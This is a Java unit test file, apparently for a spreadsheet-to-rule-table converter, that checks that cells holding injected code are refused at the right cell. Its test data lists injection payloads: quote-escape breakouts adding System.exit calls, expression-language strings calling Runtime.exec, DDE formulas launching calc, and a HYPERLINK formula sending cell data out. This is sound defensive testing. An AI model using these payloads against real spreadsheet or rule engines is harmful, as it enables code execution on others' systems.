package io.clientele.table;

import static org.assertj.core.api.Assertions.assertThat;

import io.clientele.table.xlsx.Ref;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Attempts to bring code in by a spreadsheet: each is refused, at its cell. */
class CodeInCellsTest {
  private static final List<String> ATTEMPTS =
      List.of(
          "0); System.exit(1); //",
          "$param",
          "end rule \"x\" when then System.exit(1); end",
          "0 || eval(Runtime.getRuntime().exec(\"id\") != null)",
          "$1{java.lang.Runtime}",
          "@{Runtime.getRuntime().exec('id')}",
          "${T(java.lang.Runtime).getRuntime()}",
          "=cmd|' /C calc'!A0",
          "HIGH\\u0022); System.exit(1); //",
          "HIGH\"); System.exit(1); outcome.put(\"x\", \"",
          "HIGH\n); System.exit(1);",
          "recencyDays");

  @Test
  void no_kind_of_column_but_free_text_takes_code() {
    Set<String> tried = new HashSet<>();
    for (TableForm form : Forms.shipped().tables()) {
      for (int i = 0; i < form.columns().size(); i++) {
        Column column = form.columns().get(i);
        if (column.type() != CellType.TEXT && tried.add(column.type() + " " + column.is())) {
          isRefused(form, i);
        }
      }
    }
    assertThat(tried).hasSizeGreaterThan(10);
  }

  private static void isRefused(TableForm form, int column) {
    ASheet sheet = ASheet.of(form.name());
    for (int row = 0; row < ATTEMPTS.size(); row++) {
      sheet.withCell(cell(column, row), ATTEMPTS.get(row));
      sheet.withCell(cell(column == 0 ? form.columns().size() - 1 : 0, row), "x");
    }
    Reading reading = sheet.read();

    assertThat(reading.tables()).isEmpty();
    for (int row = 0; row < ATTEMPTS.size(); row++) {
      boolean word =
          form.columns().get(column).type() == CellType.CODES
              && !ATTEMPTS.get(row).matches(".*[;,\"\\\\\n].*|[=@].*");
      if (!word) {
        String cell = cell(column, row);
        assertThat(reading.findings())
            .as("%s %s", form.name(), ATTEMPTS.get(row))
            .anyMatch(
                finding ->
                    finding.place().cell().equals(cell)
                        && finding.severity() == Finding.Severity.ERROR);
      }
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "He said \"); System.exit(1); //",
        "\\u0022); System.exit(1); //",
        "RuleTable evil",
        "line\nend rule",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
      })
  void free_text_takes_nothing_that_ends_it(String text) {
    Reading reading = ASheet.ofActions().withCell("L12", text).withCell("B12", text).read();

    assertThat(reading.tables()).isEmpty();
    assertThat(reading.findings()).extracting(f -> f.place().cell()).containsExactly("B12", "L12");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "B1 | Recency */ \" then",
        "C11 | days\\u000a",
        "C10 | eval(java.lang.Runtime.getRuntime().exec(\"id\") != null)",
        "B10 | remark(\"$param\") salience 10",
        "E10 | System.exit(1);",
        "C5 | java.lang.*",
        "C6 | java.lang.Runtime outcome",
        "B5 | Functions",
        "D5 | java.lang.Runtime",
        "F8 | PRIORITY",
        "B8 | NAME",
        "A12 | x",
        "G12 | System.exit(1);",
        "G8 | ACTION",
      })
  void headings_and_technical_rows_take_none(String cell, String text) {
    Reading reading = ASheet.ofRecency().withCell(cell, text).read();

    assertThat(reading.tables()).isEmpty();
    assertThat(reading.findings()).extracting(f -> f.place().cell()).containsExactly(cell);
  }

  @Test
  void formulas_that_reach_out_are_refused() {
    List<String> formulas =
        List.of("HYPERLINK(\"http://x/?\"&A1)", "INDIRECT(\"A1\")", "NOW()", "OFFSET(A1,0,0)");
    for (String formula : formulas) {
      assertThat(ASheet.ofRecency().withFormula("D12", formula, 30).findings())
          .as(formula)
          .containsExactly("unsafe-formula D12");
    }
  }

  @Test
  void a_second_rule_table_on_the_sheet_is_refused() {
    Reading reading =
        ASheet.ofRecency()
            .withCell("B20", "RuleTable evil")
            .withCell("B21", "CONDITION")
            .withCell("C21", "ACTION")
            .withCell("C23", "System.exit(1);")
            .read();

    assertThat(reading.tables()).isEmpty();
    assertThat(reading.findings())
        .extracting(f -> f.place().cell())
        .contains("B20", "B21", "C21", "C23");
  }

  private static String cell(int column, int row) {
    return new Ref(12 + row, 3 + column).toString();
  }
}
